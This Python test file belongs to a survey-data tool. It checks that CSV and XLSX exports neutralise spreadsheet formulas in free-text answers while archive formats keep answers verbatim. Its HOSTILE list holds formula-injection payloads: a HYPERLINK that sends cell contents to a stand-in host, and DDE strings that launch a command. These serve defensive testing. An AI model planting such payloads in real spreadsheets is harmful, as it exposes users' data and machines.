"""Nothing an answer says runs in a spreadsheet (issue 9, item 5): every CSV and XLSX file
neutralises formula-like text; the archive formats keep it verbatim."""

from __future__ import annotations

import csv

import pandas as pd
import pyreadstat
import pytest
from openpyxl import load_workbook

from samspil.demo import demo_file
from samspil.importing import read_responses
from samspil.instruments import load
from samspil.spreadsheet import csv_text, safe_cell

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klik her")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_gets_an_apostrophe_and_numbers_stay_numbers():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    for kept in ["-4", "+45", "-1,5", "3.25", "1e5", "Klima", "e-mail: x@y", "", 7, -2.5, None]:
        assert safe_cell(kept) == kept


def test_excel_csv_has_a_byte_order_mark_semicolons_and_decimal_commas():
    frame = pd.DataFrame({"q13": [2.5, 10.0], "tekst": ["=1+1", "a;b"]})
    text = csv_text(frame, excel=True)
    assert text.splitlines() == ["\ufeffq13;tekst", "2,5;'=1+1", '10;"a;b"']


@pytest.fixture(scope="module")
def hostile_answers():
    instrument = load("kd2024")
    data = read_responses(demo_file("kd2024_demo.csv"), instrument).data.copy()
    data.loc[data.index[: len(HOSTILE)], "udf_vigtigste"] = HOSTILE
    return instrument, data


def test_csv_and_xlsx_exports_neutralise_and_archive_formats_keep_answers_verbatim(
    hostile_answers, tmp_path
):
    from samspil.exports import export
    from samspil.responses import Responses

    instrument, data = hostile_answers
    rows = data.index[: len(HOSTILE)]
    with export(Responses(instrument, data), "csv", tmp_path / "a.csv").open(newline="") as handle:
        header, *rows_read = list(csv.reader(handle))
    texts = [r[header.index("udf_vigtigste")] for r in rows_read[: len(HOSTILE)]]
    assert texts == ["'" + v for v in HOSTILE]
    assert len(rows_read) == len(data)  # a carriage return in an answer ends no row
    code = rows_read[0][header.index("udf_by")]
    assert code == str(int(data["udf_by"].iloc[0]))  # codes stay numbers
    book = load_workbook(export(Responses(instrument, data), "xlsx", tmp_path / "a.xlsx"))
    sheet = book["Data"]
    column = [c.value for c in sheet[1]].index("udf_vigtigste") + 1
    cells = [sheet.cell(row=r + 2, column=column) for r in range(len(HOSTILE))]
    assert [c.value for c in cells] == ["'" + v for v in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    sav, _ = pyreadstat.read_sav(
        str(export(Responses(instrument, data), "sav", tmp_path / "a.sav"))
    )
    assert (
        sav["udf_vigtigste"].iloc[: len(HOSTILE)].tolist()
        == data.loc[rows, "udf_vigtigste"].tolist()
    )
    dta, _ = pyreadstat.read_dta(
        str(export(Responses(instrument, data), "dta", tmp_path / "a.dta"))
    )
    assert dta["udf_vigtigste"].iloc[0] == HOSTILE[0]


def test_excel_option_on_the_csv_export_command(run_cli, tmp_path):
    def export(fmt: str, out):
        data = demo_file("fc2015_demo.csv")
        return run_cli("export", "fc2015", "--data", data, "--to", fmt, "--excel", "--out", out)

    out = tmp_path / "fc2015.csv"
    code, _, err = export("csv", out)
    assert code == 0, err
    assert out.read_bytes().startswith(b"\xef\xbb\xbfrespondent_id;")
    back = pd.read_csv(out, sep=";", decimal=",", encoding="utf-8-sig")
    source = pd.read_csv(demo_file("fc2015_demo.csv"))
    assert back["q13"].sum() == pytest.approx(source["q13"].sum())
    code, _, err = export("sav", tmp_path / "x.sav")
    assert code == 2 and "CSV" in err


def test_report_tables_in_csv_and_xlsx_neutralise_text_cells(tmp_path):
    from samspil.reports import compute, load_spec
    from samspil.reports.publish import Job, write_csv, write_xlsx
    from samspil.responses import Responses

    responses = Responses.from_file(demo_file("kd2024_demo.csv"), load("kd2024"))
    _, results = compute("kd2024", responses)
    result = next(r for r in results if r.block.id == "tabel_4_2")
    result.data.loc[0, "item"] = HOSTILE[0]
    job = Job(load_spec("kd2024"), [result], tmp_path, responses.instrument, responses.data)
    (csv_path,) = write_csv(job)
    table = pd.read_csv(csv_path, dtype=str)
    assert table["item"].iloc[0] == "'" + HOSTILE[0]
    (xlsx_path,) = write_xlsx(job)
    cell = load_workbook(xlsx_path)["Tabel 4.2"]["A3"]
    assert cell.value == "'" + HOSTILE[0] and cell.data_type == "s"
